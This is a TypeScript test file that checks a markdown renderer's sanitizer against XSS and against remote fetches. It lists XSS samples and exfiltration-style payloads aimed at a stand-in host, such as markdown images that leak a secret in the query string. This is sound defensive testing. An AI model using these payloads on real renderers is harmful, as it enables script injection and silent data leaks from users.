import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitizeHtml } from './markdown';
import { findExecutable, XSS_PAYLOADS } from '@tests/xss-payloads';

function toFragment(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

describe('renderMarkdown', () => {
  it('keeps line breaks and turns bare URLs into links that open safely in a new tab', () => {
    const root = toFragment(renderMarkdown('First line\nSecond line https://example.com/docs'));
    expect(root.querySelector('br')).not.toBeNull();
    const link = root.querySelector('a');
    expect(link).toHaveAttribute('href', 'https://example.com/docs');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('renders the usual markdown (bold, lists, code)', () => {
    const root = toFragment(renderMarkdown('**bold**\n\n- one\n- two\n\n`code`'));
    expect(root.querySelector('strong')).toHaveTextContent('bold');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(root.querySelector('code')).toHaveTextContent('code');
  });

  it(`leaves nothing executable from ${XSS_PAYLOADS.length} known XSS payloads`, () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(30);
    for (const payload of XSS_PAYLOADS) {
      const root = toFragment(renderMarkdown(payload));
      expect({ payload, problems: findExecutable(root) }).toEqual({ payload, problems: [] });
    }
  });

  it('the assertion helper itself catches what it must (so the XSS test can fail)', () => {
    const root = toFragment('<a href="javascript:alert(1)">x</a><img src=x onerror="x"><svg></svg>');
    expect(findExecutable(root)).toEqual(
      expect.arrayContaining(['<svg> element', 'IMG onerror', 'A href=javascript:alert(1)']),
    );
  });

  it('sanitizeHtml keeps harmless HTML', () => {
    expect(sanitizeHtml('<p><em>hi</em></p>')).toBe('<p><em>hi</em></p>');
  });
});

describe('renderMarkdown: nothing in an answer fetches on its own', () => {
  const REMOTE = [
    '![leak](https://evil.example/x.png?q=secret)',
    '<img src="https://evil.example/a.png">',
    '<img src="x" srcset="https://evil.example/b.png 2x">',
    '<picture><source srcset="https://evil.example/c.png"><img src="https://evil.example/d.png"></picture>',
    '<video poster="https://evil.example/e.png" src="https://evil.example/f.mp4"></video>',
    '<audio src="https://evil.example/g.mp3"></audio>',
    '<table background="https://evil.example/h.png"><tr><td background="https://evil.example/i.png">x</td></tr></table>',
    '<a href="https://example.com" ping="https://evil.example/ping">p</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<input type="image" src="https://evil.example/j.png">',
  ];

  it.each(REMOTE)('%s', (payload) => {
    const root = toFragment(renderMarkdown(payload));
    const fetching = [...root.querySelectorAll('*')].flatMap((element) =>
      ['src', 'srcset', 'poster', 'background', 'ping', 'data']
        .filter((name) => element.hasAttribute(name))
        .map((name) => `${element.tagName} ${name}`),
    );
    expect(fetching).toEqual([]);
    expect(
      root.querySelectorAll('img, video, audio, source, picture, iframe, object, embed, link, input'),
    ).toHaveLength(0);
  });

  it('turns a markdown image into a safe link labelled with its alt text', () => {
    const root = toFragment(renderMarkdown('![the chart](https://example.com/chart.png)'));
    const link = root.querySelector('a');
    expect(link).toHaveTextContent('the chart');
    expect(link).toHaveAttribute('href', 'https://example.com/chart.png');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('keeps an inline data: image (it requests nothing)', () => {
    const root = toFragment(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)'));
    expect(root.querySelector('img')).toHaveAttribute('src', 'data:image/png;base64,iVBORw0KGgo=');
  });
});
